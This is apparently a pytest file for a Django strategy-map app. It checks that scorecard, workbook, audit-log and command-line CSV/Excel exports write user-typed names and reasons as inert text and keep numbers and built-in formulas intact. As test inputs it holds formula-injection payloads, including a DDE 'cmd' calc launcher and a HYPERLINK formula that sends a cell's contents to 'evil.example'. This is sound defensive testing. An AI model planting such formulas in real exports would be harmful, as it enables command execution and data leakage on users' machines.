"""CSV/Excel formula injection: text people typed never becomes a formula in an export.

Names, reasons and narratives are written into every CSV as text that Excel will not
evaluate (OWASP: a leading apostrophe, every cell quoted) and into every workbook as
text cells; numbers stay numbers, negative ones too, and the Excel scorecard keeps its
own formulas.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.urls import reverse

from stratmap.core.audit import record
from stratmap.core.models import AuditEvent, Organization
from stratmap.kpis.models import Kpi, KpiTarget
from stratmap.plans.models import ActionPlan

PAYLOADS = ['=HYPERLINK("http://x","y")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+2"]
CODES = ["DP5.1", "DP5.2", "DP3.1", "DP4.1", "DP4.2"]  # KPIs of theme D, whose names become the payloads
YEAR = 2019  # ROC 108, published


def kpi(code: str, year: int = YEAR) -> Kpi:
    return Kpi.objects.get(code=code, objective__map__organization__code="taipei", objective__map__year=year)


@pytest.fixture
def hostile(demo):
    """Names typed by a hostile editor on the 108 and 109 maps, and a genuine negative target."""
    for year in (YEAR, YEAR + 1):
        for code, payload in zip(CODES, PAYLOADS, strict=True):
            Kpi.objects.filter(pk=kpi(code, year).pk).update(name=payload)
    KpiTarget.objects.filter(kpi=kpi("DP5.2"), year=YEAR).update(value=Decimal("-2.5"), printed="-2.5")
    return dict(zip(CODES, PAYLOADS, strict=True))


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_neutralised(rows: list[list[str]], hostile: dict[str, str], code_column: int, name_column: int) -> None:
    by_code = {row[code_column]: row for row in rows}
    for code, payload in hostile.items():
        assert by_code[code][name_column] == "'" + payload, code


def test_the_public_scorecard_csv_writes_names_as_text_and_numbers_as_numbers(hostile, client):
    response = client.get("/taipei/108/scorecard.csv")
    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    rows = csv_rows(body)
    assert_neutralised(rows, hostile, code_column=2, name_column=3)
    dp52 = next(row for row in rows if row[2] == "DP5.2")
    assert dp52[4] == "-2.5"  # a negative number is a number, not a formula
    assert '"-2.5"' in body and "\n=" not in body and ",=" not in body  # every cell quoted, none bare


def test_the_excel_scorecard_writes_names_as_text_and_keeps_its_own_formulas(hostile, client):
    response = client.get("/taipei/108/scorecard.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    found = {}
    formulas = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in hostile.values():
                    found[cell.value] = cell
                elif cell.data_type == "f":
                    formulas += 1
                    assert not any(payload in str(cell.value) for payload in PAYLOADS)
    assert set(found) == set(hostile.values())
    for value, cell in found.items():
        assert cell.data_type == "s", (value, cell.coordinate)
        if value.startswith(("=", "+", "-", "@", "\t")):
            assert cell.quotePrefix, (value, cell.coordinate)
    assert formulas > 0  # the achievement rate, the computed total and the sums are still formulas


def test_an_organization_name_like_a_formula_is_text_in_the_excel_titles(hostile, client):
    Organization.objects.filter(code="taipei").update(name='=HYPERLINK("http://x","y")')
    response = client.get("/taipei/108/scorecard.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    titles = [ws["A1"] for ws in book.worksheets if str(ws["A1"].value).startswith("=HYPERLINK")]
    assert titles and all(cell.data_type == "s" for cell in titles)


def test_the_plans_sheet_writes_plan_names_as_text(hostile, people, client):
    plan = (
        ActionPlan.objects.filter(kpi=kpi("DP5.1", YEAR + 1)).first()
        or ActionPlan.objects.filter(
            kpi__objective__map__organization__code="taipei", kpi__objective__map__year=YEAR + 1
        ).first()
    )
    ActionPlan.objects.filter(pk=plan.pk).update(name=PAYLOADS[0])
    client.force_login(people["admin"])
    book = openpyxl.load_workbook(io.BytesIO(client.get("/taipei/109/scorecard.xlsx").content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == PAYLOADS[0]]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_the_results_workbook_writes_names_as_text_cells(hostile, people, client):
    client.force_login(people["dol"])
    response = client.get("/taipei/109/workbook.xlsx", {"agency": "taipei-dol"})
    assert response.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(response.content))["results"]
    names = {row[1].value: row[1] for row in ws.iter_rows(min_row=2)}
    written = [names[payload] for payload in PAYLOADS if payload in names]
    assert written, "the labour bureau's workbook holds some of the renamed KPIs"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in written)


def test_an_editors_reason_is_text_in_the_administrators_audit_export(hostile, people, client):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"詳見")'
    record(user=people["dol"], obj=kpi("DP5.1"), action="change", changes={"name": ("-2+3", "@SUM(1)")},
           reason=payload)  # fmt: skip
    staff = get_user_model().objects.create_superuser("root", "root@example.org", "pw-for-tests-only")
    client.force_login(staff)
    response = client.get(reverse("admin:core_auditevent_export"))
    rows = csv_rows(response.content.decode("utf-8-sig"))
    header = rows[0]
    event = next(row for row in rows if row[header.index("reason")].endswith(payload))
    assert event[header.index("reason")] == "'" + payload
    assert event[header.index("old")] == "'-2+3" and event[header.index("new")] == "'@SUM(1)"
    assert event[header.index("object_id")] == str(kpi("DP5.1").pk)
    assert AuditEvent.objects.filter(reason=payload).count() == 1  # stored as typed; only the export escapes


def test_the_score_command_csv_writes_names_as_text_and_numbers_as_numbers(hostile, capsys):
    call_command("score", org="taipei", year="108", format="csv")
    rows = csv_rows(capsys.readouterr().out)
    header = rows[0]
    assert_neutralised(rows, hostile, code_column=header.index("code"), name_column=header.index("name"))
    dp52 = next(row for row in rows if row[header.index("code")] == "DP5.2")
    assert dp52[header.index("target")] == "-2.5"
